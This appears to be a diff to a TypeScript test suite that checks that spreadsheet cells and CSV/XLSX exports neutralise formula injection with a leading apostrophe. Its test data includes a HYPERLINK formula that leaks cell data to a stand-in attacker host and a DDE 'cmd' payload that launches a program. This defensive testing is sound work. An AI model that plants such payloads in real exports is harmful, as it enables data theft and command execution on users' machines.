@@ -12,7 +12,7 @@ import { manyFlowsReport } from '../support/many-flows';
 // formula (OWASP CSV Injection), the XLSX holds only characters XML allows, and a file name
 // cannot add or forge a line of text output.
 
-const TRIGGERS = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1', '\u0000=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'];
+const TRIGGERS = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1', '＝1+1', '＋1', '－1', '＠SUM(A1)'];
 const NOT_XML = ['a\uFFFFb', 'a\uFFFEb', 'a\uD800b', 'a\uDC00b', 'a\u0001b', 'a\u001bb', 'a\u0008b'];
 
 /** A report whose names and file names carry the hostile values. */
@@ -32,7 +32,11 @@ describe('spreadsheetCell', () => {
   it.each(TRIGGERS)('neutralises a cell starting with %j by a leading apostrophe, keeping the text', (value) => {
     const cell = spreadsheetCell(value);
     expect(cell.startsWith("'")).toBe(true);
-    expect(cell.slice(1)).toBe(value.replace('\u0000', '\uFFFD'));
+    expect(cell.slice(1)).toBe(value);
+  });
+
+  it('turns a NUL first into U+FFFD, which starts no formula', () => {
+    expect(spreadsheetCell('\u0000=1+1')).toBe('\uFFFD=1+1');
   });
 
   it.each(['Acme GmbH', 'a=b', 'x-1', '2026-11-28', "'quoted", ' =1 (a space first is text)', ''])('leaves %j as it is', (value) => {
@@ -53,7 +57,7 @@ describe('CSV and XLSX registers', () => {
     const csv = formatCsv(hostileReport()) as string;
     const fields = parseCsv(csv);
     expect(fields.length).toBe(1 + TRIGGERS.length + NOT_XML.length);
-    for (const row of fields) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
+    for (const row of fields) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
     expect(fields[1][1]).toBe(`'${TRIGGERS[0]} (exporter-0)`);
     expect(csv).not.toMatch(/[\uFFFE\uFFFF\u0001\u001b]/);
   });
@@ -75,7 +79,7 @@ describe('CSV and XLSX registers', () => {
     const cells: string[] = [];
     sheet.eachRow((row) => row.eachCell((cell) => void cells.push(String(cell.value))));
     wb.getWorksheet('About')!.eachRow((row) => row.eachCell((cell) => void cells.push(String(cell.value))));
-    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n\0＝＋－＠]/);
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
     expect(sheet.getRow(2).getCell(2).value).toBe(`'${TRIGGERS[0]} (exporter-0)`);
     expect(cells).toContain('Input =cmd|calc.yaml');
   });
